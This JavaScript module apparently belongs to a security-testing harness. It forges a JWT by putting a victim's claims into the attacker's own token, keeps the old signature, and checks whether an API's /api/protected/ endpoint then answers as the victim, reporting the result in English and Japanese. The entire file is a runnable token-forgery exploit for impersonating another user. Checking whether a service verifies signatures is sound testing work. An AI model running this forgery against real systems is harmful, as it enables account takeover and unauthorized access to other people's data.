// Signature not checked: the attacker's own token, its payload replaced by the victim's
// claims, its signature kept (it no longer matches, and nobody looks).

import { config, finish } from "./common.js";
import { attackerTokens, b64, conclude, useToken, victimClaims, victimId } from "./tokens.js";

try {
  const own = (await attackerTokens()).access;
  const [header, , signature] = own.split(".");
  const claims = victimClaims(await victimId());
  const token = `${header}.${b64(JSON.stringify(claims))}.${signature}`;
  const used = await useToken(token);
  await conclude({ against: config.against, own, token, used }, (body) => body.user && body.user.username === config.victim, {
    en: `the API took the attacker's own signature under ${config.victim}'s claims: /api/protected/ answered for user ${config.victim}.`,
    ja: `API は攻撃者自身の署名を ${config.victim} のクレームの下で受け付けました。/api/protected/ はユーザー ${config.victim} として応答しました。`,
  });
} catch (e) {
  finish(false, { against: config.against, error: String(e) }, { en: String(e), ja: String(e) });
}
